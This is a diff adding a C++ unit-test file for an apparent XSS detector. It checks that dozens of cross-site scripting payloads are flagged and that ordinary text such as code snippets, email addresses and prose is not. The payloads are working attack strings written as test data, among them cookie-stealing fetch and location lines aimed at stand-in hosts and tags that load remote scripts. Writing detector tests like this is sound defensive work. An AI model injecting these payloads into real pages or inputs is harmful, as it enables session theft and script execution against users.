@@ -1,0 +1,92 @@
+#include "inspect/xss/xss.h"
+
+#include <gtest/gtest.h>
+
+#include <string>
+
+namespace onesec::inspect {
+namespace {
+
+std::uint32_t points(std::string_view text) {
+  Reasons reasons;
+  inspect_xss(text, reasons);
+  for (const Reason& reason : reasons.all()) {
+    EXPECT_LE(reason.begin, reason.end) << text;
+    EXPECT_LE(reason.end, text.size()) << text;
+  }
+  return reasons.points(Attack::Xss);
+}
+
+TEST(Xss, MarkupThatRuns) {
+  for (const char* attack :
+       {"<script>fetch('//x/'+document.cookie)</script>", "<ScRiPt/src=//x.example/a.js>", "<img src=q onerror=go()>",
+        "<p/onclick=go()>hello", "<svg><animate onbegin=go() attributeName=x>", "<iframe srcdoc='<b>'>",
+        "<a href=\"java\tscript:go()\">", "<form><button formaction=javascript:go()>",
+        "<object data=data:text/html;base64,PGI+>", "<embed src=//x.example/a.swf>", "<base href=//x.example/>",
+        "<style>@import '//x/'</style>", "<x style=width:expression(go())>", "<!--[if IE]><b>",
+        "<video><source onerror = 'go()'>", "<meta http-equiv=refresh content='0;url=//x'>"}) {
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  }
+}
+
+TEST(Xss, AnAttributeIsLeft) {
+  for (const char* attack : {"\" onfocus=go() autofocus x=\"", "' onmouseover='go()", "x onpointerenter=go(1)",
+                             "\" style=\"width:expression(1)"}) {
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  }
+}
+
+TEST(Xss, AnAddressRunsScript) {
+  for (const char* attack :
+       {"javascript:go()", " JaVaScRiPt:go()", "java\nscript:x=1", "data:text/html,<b>=1", "vbscript:MsgBox(1)"}) {
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  }
+}
+
+TEST(Xss, AStringOfAScriptIsLeft) {
+  for (const char* attack :
+       {"';alert(7)//", "'-confirm(7)-'", "\"+eval(name)+\"", "\\';fetch('//x')//", "`-alert`7`-`",
+        "'};location='//x/'+document.cookie;{'", "alert(7)", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"}) {
+    EXPECT_GE(points(attack), kThreshold) << attack;
+  }
+}
+
+TEST(Xss, WhatPeopleWriteIsNoAttack) {
+  for (const char* text : {"a < b && c > d",
+                           "List<String> names",
+                           "<anna@example.org>",
+                           "<https://example.org/a>",
+                           "<b>bold</b> and <i>italic</i>",
+                           "1 <2> 3",
+                           "i <3 u",
+                           "<a href=\"https://example.org\">link</a>",
+                           "x = y; if (x) { go(); }",
+                           "see the <script> tag",
+                           "on=1&online=2",
+                           "ontology=true",
+                           "{\"a\": [1, 2]}",
+                           "C:\\Users\\anna",
+                           "javascript: the good parts",
+                           "O'Brien (Anna)",
+                           "alert fatigue",
+                           "the location of the window",
+                           "documentation.html",
+                           "self.assertEqual(a, b)",
+                           "p { color: red }",
+                           "a;b,c:d",
+                           "we confirm (again) your order",
+                           "data:image/png;base64,iVBORw0KGgo="}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+}
+
+TEST(Xss, EveryByteIsReadOnceOrSo) {
+  for (const char* piece : {"<", "<a ", "<a b='", "\"", "x=", "document.", "alert(", "</", "<!--", "'`\"", "a b "}) {
+    std::string text;
+    while (text.size() < (64U << 10U)) text += piece;
+    (void)points(text);
+  }
+}
+
+}  // namespace
+}  // namespace onesec::inspect
